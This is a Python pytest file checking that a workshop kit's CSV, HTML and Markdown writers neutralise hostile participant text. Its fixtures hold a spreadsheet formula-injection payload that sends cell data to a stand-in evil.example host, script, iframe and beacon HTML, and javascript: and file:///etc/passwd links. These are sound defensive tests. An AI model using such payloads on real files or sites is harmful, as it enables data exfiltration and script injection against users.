"""What participant text can do to the CSV, HTML and Markdown files the kit writes: nothing.

Fast unit tests of the shared guards (``core/safe_csv.py``, ``core/safe_html.py``) and of the
plan's writers; the end-to-end attacks through autograde and feedback are in
``test_autograde_attacks.py``.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from journals import MEETING, complete_answers

from mentor_workshop.core.safe_csv import guard_cell, unguard_cell, writer
from mentor_workshop.core.safe_html import (
    CSP_META,
    block_active_links,
    harden_page,
    neutralize_bidi,
    sanitize_html,
)
from mentor_workshop.participant import plan

ATTACK = "fine\r=WEBSERVICE(\"https://evil.example/?\"&A1)\r\n+1\n@SUM(1)\u2028-2\n'=kept"
BIDI = "Ada \u202eLovelace\u202c \u2066x\u2069 \u200f"


def _csv_text(rows: list[list]) -> str:
    buffer = io.StringIO()
    out = writer(buffer)
    for row in rows:
        out.writerow([guard_cell(v) for v in row])
    return buffer.getvalue()


def test_a_carriage_return_cannot_start_a_row_with_a_formula() -> None:
    text = _csv_text([["pseudonym", "text", "score"], ["ab12", ATTACK, 3]])
    assert "\r" not in text
    # a tool that splits on any line break sees no line starting like a formula
    for line in text.splitlines():
        assert line[:1] not in ("=", "+", "-", "@", "\t"), line
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2 and rows[1][0] == "ab12" and rows[1][2] == "3"
    # and what comes back through the grading import is the text, line breaks normalised
    assert unguard_cell(rows[1][1]) == ATTACK.replace("\r\n", "\n").replace(
        "\r", "\n").replace("\u2028", "\n")


@pytest.mark.parametrize("text", ["-- a dash first", "'quoted", "=1+1", "plain", "a\n-b\n'c"])
def test_guarding_round_trips_exactly(text: str) -> None:
    assert unguard_cell(guard_cell(text)) == text


def test_html_outputs_keep_markup_and_lose_script_and_network() -> None:
    dirty = ("<div class='mw-check' style='color: red; background: url(https://x.example/a)'>"
             "<b onclick='alert(1)'>3/3</b><script>alert(2)</script>"
             "<img src='https://beacon.example/p.gif'><img src='data:image/png;base64,AAAA'>"
             "<a href='javascript:alert(3)'>x</a><iframe src='https://x.example'></iframe>"
             "<style>body{background:url(https://x.example/b)}</style>"
             "<meta http-equiv='refresh' content='0;url=https://x.example'></div>")
    clean = sanitize_html(dirty)
    assert "<b>3/3</b>" in clean and 'class="mw-check"' in clean and "color:red" in clean
    assert "data:image/png;base64,AAAA" in clean
    for bad in ("script", "onclick", "beacon", "x.example", "javascript", "iframe", "meta"):
        assert bad not in clean, bad


def test_every_page_gets_the_policy_first_in_its_head() -> None:
    page = harden_page("<!DOCTYPE html><html><head><title>t</title></head><body>"
                       f"{BIDI}</body></html>")
    assert page.index(CSP_META) < page.index("<title>")
    assert "default-src 'none'" in CSP_META and "script-src" not in CSP_META
    assert neutralize_bidi(BIDI) in page and "\u202e" not in page
    assert harden_page("<p>x</p>").startswith(f"<head>{CSP_META}</head>")


@pytest.mark.parametrize("link", [
    "[x](javascript:alert(1))", "[x]( JaVaScRiPt:alert(1))", "![x](data:text/html,hi)",
    "[x](vbscript:msgbox)", "[x]: javascript:alert(1)", "[x](file:///etc/passwd)",
])
def test_active_markdown_links_are_blocked(link: str) -> None:
    blocked = block_active_links(link)
    assert "#blocked:" in blocked
    assert not any(s in blocked.lower() for s in ("](javascript:", "]( javascript:",
                                                     "](data:", "](vbscript:", "]: javascript:",
                                                     "](file:"))


def _journal(tmp_path: Path, answers: dict, name: str = "Ada") -> Path:
    path = tmp_path / "journal.json"
    path.write_text(json.dumps({"schema_version": 1, "participant": {"id": "p01", "name": name},
                                "answers": answers, "saved_at": {}}), encoding="utf-8")
    return path


def test_plan_markdown_and_html_carry_no_active_link_or_bidi_control(tmp_path: Path) -> None:
    answers = complete_answers()
    answers["within.commitment"] = {"action": "[Click me](javascript:alert(document.cookie))",
                                    "date": "2030-04-15"}
    built = plan.build_plan(_journal(tmp_path, answers, name=BIDI))
    markdown, page = plan.to_markdown(built), plan.to_html(built)
    assert "(javascript:" not in markdown and "#blocked:" in markdown
    assert "\u202e" not in markdown + page and "\u2066" not in markdown + page
    assert CSP_META in page.split("</head>")[0]


@pytest.mark.parametrize("start,day", [("9999-12-31T23:30", "9999-12-31"),
                                       ("9998-12-31T23:30", "9999-12-31"),
                                       ("0001-01-01T00:10", "0001-01-01")])
def test_far_future_and_year_one_dates_do_not_crash_the_plan(
        tmp_path: Path, start: str, day: str) -> None:
    answers = complete_answers()
    answers["gracious.meeting"] = dict(MEETING, yes_date=day, start=start)
    answers["within.commitment"] = {"action": "Write to Dr Johnson", "date": day}
    built = plan.build_plan(_journal(tmp_path, answers))
    assert "My mentorship plan" in plan.to_html(built)
    assert plan.to_markdown(built)
    assert isinstance(plan.to_ics(built), bytes)
